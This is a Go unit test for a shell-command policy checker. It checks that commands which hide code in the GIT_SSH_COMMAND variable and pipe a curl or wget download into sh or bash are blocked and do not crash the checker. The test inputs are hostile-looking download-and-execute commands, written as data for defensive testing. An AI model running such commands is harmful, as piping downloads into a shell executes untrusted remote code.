package policy

import "testing"

// A variable whose value a wrapper runs as code (GIT_SSH_COMMAND) defines
// functions and aliases while a pipeline's stages are named: the checker that
// names them once panicked on a nil map. Each must be judged, not crash.
func TestCodeInWrapperVariablesOfAPipeline(t *testing.T) {
	p := Default()
	for _, cmd := range []string{
		`env GIT_SSH_COMMAND='f(){ :; }' curl x | sh`,
		`GIT_SSH_COMMAND='f(){ :; }' curl x | sh`,
		`env GIT_SSH_COMMAND='alias a=b; f(){ f; }; f' wget -qO- x | bash`,
		`env GIT_SSH_COMMAND='f(){ :; }' git fetch | cat`,
	} {
		d := p.Check(cmd)
		if cmd != `env GIT_SSH_COMMAND='f(){ :; }' git fetch | cat` && d.Allowed {
			t.Errorf("%s: allowed; a download piped into a shell", cmd)
		}
	}
}
